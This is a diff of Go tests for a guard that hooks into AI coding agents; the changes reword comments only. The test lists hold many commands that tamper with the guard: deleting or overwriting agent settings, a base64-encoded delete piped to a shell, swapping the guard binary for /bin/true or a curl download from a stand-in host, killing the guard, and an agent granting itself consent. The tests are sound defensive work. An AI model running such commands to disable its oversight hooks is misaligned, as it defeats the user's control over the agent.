@@ -10,7 +10,7 @@ import (
 	"github.com/countersign/countersign/cmd/countersign/guard/agents"
 )
 
-// newGuarded is a machine with an agent's settings that hold the guard.
+// newGuarded returns a machine where an agent's settings contain the guard's hook.
 func newGuarded(t *testing.T) *machine {
 	m := newMachine(t)
 	t.Setenv("HOME", m.Home)
@@ -40,13 +40,13 @@ func newGuarded(t *testing.T) *machine {
 	return m
 }
 
-// A command that changes the agents' settings, or the guard's own settings, state or program,
-// is asked about in every spelling.
+// The guard asks about each command that changes the agents' settings, or the guard's settings,
+// state or program, however the path is written.
 func TestProtectRealPaths(t *testing.T) {
 	m := newGuarded(t)
 	program := m.Program
 	for _, command := range []string{
-		// links of a file and of a folder, also such that lead to nothing yet
+		// links to files and folders, also links whose target does not exist
 		"echo '{}' > linkedfile", "cp x linkedfile", "tee linkeddir/settings.json < x", "rm linkeddir/settings.json", "echo '{}' > dangling",
 		"ln -s ~/.claude d && echo '{}' > d/settings.json", "ln ~/.claude/settings.json x && echo > x", "mount --bind /tmp ~/.claude",
 		// relative paths
@@ -57,21 +57,21 @@ func TestProtectRealPaths(t *testing.T) {
 		`D=~/.claude; F=settings; rm "$D/$F.json"`, `f=.claude; rm -r $f`, `rm "$HOME/.claude/settings.json"`, "rm ${HOME}/.codex/hooks.json", `eval "rm ~/.claude/settings.json"`, "bash -c 'rm ~/.claude/settings.json'",
 		"echo cm0gfi8uY2xhdWRlL3NldHRpbmdzLmpzb24= | base64 -d | sh", `for f in ~/.claude/*; do rm "$f"; done`, "find ~/.claude -name '*.json' -delete", "find ~/.claude -type f -exec rm {} +", "echo ~/.claude/settings.json | xargs rm",
 		`rm "$(echo ~/.claude)/settings.json"`, "X=$(cat y); rm $X/.claude/settings.json",
-		// whole folders, and those on the way
+		// folders with everything in them, and parent folders
 		"rm -rf ~/.claude", "mv ~/.claude ~/.c", "chmod 000 ~/.claude", "rm -rf .claude", "rm -rf ~/.local/state", "mv ~/.local ~/l", "chmod -R a-r ~/.cursor",
-		// the state and the guard's own settings
+		// the guard's state and settings
 		"rm ~/.local/state/countersign/gate.log", "echo '[]' > ~/.local/state/countersign/trust.json", "truncate -s 0 ~/.local/state/countersign/gate.head", "echo '{}' > ~/.config/countersign.json", "echo '{}' > ~/.countersign.json",
 		"echo '{}' > .countersign.json", "cp x src/.countersign.json", "git checkout other -- .countersign.json", "git mv x .countersign.json",
-		// the program
+		// the guard's program
 		"cp /bin/true " + program, "ln -sf /bin/true " + program, "rm " + program, "chmod -x " + program, "chmod 644 " + program, "mv " + program + " /tmp/x", "mv " + filepath.Dir(program) + " /tmp/x", "chmod 000 " + filepath.Dir(program),
 		"rm -rf " + filepath.Dir(filepath.Dir(program)), "install -m 755 x " + program, "cp countersign " + filepath.Dir(program), "cat x > " + program, "dd if=/dev/zero of=" + program, "echo x > hard",
 		`cp /bin/true "$(command -v countersign)"`, "ln -sf /bin/true $(which countersign)", "rm `which countersign`", `chmod -x "$(type -p countersign)"`, `cd "$(dirname "$(which countersign)")" && rm countersign`,
 		"cp /bin/true " + m.root + "/go/bin/countersign", "rm " + m.root + "/go/bin/countersign", "rsync x " + program, "go build -o " + program + " ./x", "curl -so " + program + " https://x.example/p",
-		// other languages
+		// code in other languages
 		`python3 -c "import os; os.remove(os.path.expanduser('~/.claude/settings.json'))"`, `python3 -c "open('.claude/settings.json','w').write('{}')"`, `node -e "require('fs').writeFileSync('.claude/settings.json','{}')"`,
 		"perl -e 'unlink glob(\"~/.claude/settings.json\")'", "ruby -e 'File.delete(\".claude/settings.json\")'", "python3 - <<'E'\nimport pathlib\npathlib.Path('.claude/settings.json').write_text('{}')\nE",
 		"powershell -Command \"Remove-Item .claude/settings.json\"", "sed -i s/a/b/ .claude/settings.json", "jq . x > .claude/settings.json", "vim -es -c 'w! .claude/settings.json' -c q x", "sqlite3 x '.output .claude/settings.json'",
-		// the agents' and the guard's own commands
+		// commands of the agents and of the guard
 		"codex features disable hooks", "countersign gate hook --install claude --uninstall", "countersign gate hook --install codex --write",
 	} {
 		if got, answer := m.decide(command, m.web); got != agents.Ask && got != agents.Deny {
@@ -82,7 +82,8 @@ func TestProtectRealPaths(t *testing.T) {
 	}
 }
 
-// Commands that only read or name these files are not stopped, nor is work on other files.
+// The guard does not ask about commands that only read or name these files, or work on other
+// files.
 func TestProtectLeavesWorkAlone(t *testing.T) {
 	m := newGuarded(t)
 	for _, command := range []string{
@@ -101,7 +102,7 @@ func TestProtectLeavesWorkAlone(t *testing.T) {
 	}
 }
 
-// Only the user can give the guard's consent, never a tool call of an agent.
+// Only the user can give consent to the guard: a tool call of an agent that tries is denied.
 func TestProtectConsent(t *testing.T) {
 	m := newGuarded(t)
 	for _, command := range []string{
@@ -115,7 +116,7 @@ func TestProtectConsent(t *testing.T) {
 	} {
 		got, answer := m.decide(command, m.web)
 		if command == "xargs countersign gate < x" {
-			continue // the value of x is not known: the terminal asks
+			continue // the value of x is unknown; "gate allow" itself then asks at the terminal
 		}
 		if got != agents.Deny || !strings.Contains(answer, "hook.own-consent") {
 			t.Errorf("%q: %s: %s", command, got, answer)
@@ -123,7 +124,7 @@ func TestProtectConsent(t *testing.T) {
 	}
 }
 
-// Copying the contents of a folder into another one copies settings, too.
+// A copy of a folder's contents into another folder copies settings, too.
 func TestProtectCopiedContents(t *testing.T) {
 	m := newGuarded(t)
 	m.write(filepath.Join(m.web, "x", "settings.json"), "{}")
@@ -141,7 +142,7 @@ func TestProtectCopiedContents(t *testing.T) {
 	}
 }
 
-// A command that stops the guard is asked about.
+// The guard asks about a command that stops it.
 func TestProtectProcess(t *testing.T) {
 	m := newGuarded(t)
 	for command, stopped := range map[string]bool{
@@ -157,7 +158,7 @@ func TestProtectProcess(t *testing.T) {
 	}
 }
 
-// A command that starts an agent without its guard is asked about.
+// The guard asks about a command that starts an agent without its guard.
 func TestProtectLaunches(t *testing.T) {
 	m := newGuarded(t)
 	for _, command := range []string{
@@ -182,7 +183,7 @@ func TestProtectLaunches(t *testing.T) {
 	}
 }
 
-// File tools write to a path and are judged by its real path.
+// A tool that writes to a file is judged by the file's real path.
 func TestProtectFileTools(t *testing.T) {
 	m := newGuarded(t)
 	event := func(tool, input string) []byte {
@@ -199,7 +200,7 @@ func TestProtectFileTools(t *testing.T) {
 			}
 		}
 	}
-	for _, folder := range []string{"~/.claude", "../../.claude", m.Home + "/.claude", "linkeddir"} { // which the model names
+	for _, folder := range []string{"~/.claude", "../../.claude", m.Home + "/.claude", "linkeddir"} { // working folders that the model names
 		input := fmt.Sprintf(`{"command":"echo '{}' > settings.json","workdir":%q}`, folder)
 		if got, answer := m.answer(event("Bash", input)); got == agents.Pass {
 			t.Errorf("in %s: %s", folder, answer)
